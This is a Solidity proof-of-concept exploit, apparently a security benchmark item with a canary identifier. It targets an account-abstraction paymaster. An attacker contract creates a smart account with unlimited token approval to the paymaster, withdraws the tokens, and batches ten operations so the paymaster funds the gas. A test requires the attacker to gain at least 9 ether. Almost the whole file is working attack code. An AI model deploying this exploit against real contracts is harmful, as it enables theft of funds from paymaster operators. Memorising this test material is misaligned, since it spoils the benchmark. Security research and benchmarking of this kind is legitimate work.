// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

contract Attacker is Signer {
    function run(IEntryPoint point, AccountFactory factory, address validator, IERC20 token, address paymaster) external {
        Install[] memory modules = new Install[](1);
        modules[0] = Install(validator, Kind.Validator, abi.encode(address(this)));
        Call[] memory calls = new Call[](1);
        calls[0] = Call(address(token), 0, abi.encodeCall(IERC20.approve, (paymaster, type(uint256).max)));
        address account = factory.create(factory.planOf(modules, calls, 0), modules, calls);
        token.transfer(account, 3_000e6);
        Operation[] memory ops = new Operation[](10);
        for (uint256 i = 0; i < 10; i++) {
            calls[0] = sending(address(token), address(this), i == 0 ? 3_000e6 : 0);
            ops[i] = operation(point, account, validator, Executions.encode(Mode.Tolerant, calls));
            ops[i].nonce += i;
            (ops[i].callUnits, ops[i].unitPrice) = (1e6, 1e12);
            (ops[i].paymaster, ops[i].paymasterData) = (paymaster, abi.encode(3_000e6));
        }
        try point.handle(ops, payable(address(this))) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 3_000e6);
    }

    function exploit() public {
        other.run(entryPoint, factory, address(owners), usd, address(paymaster));
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 9 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(paymaster);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
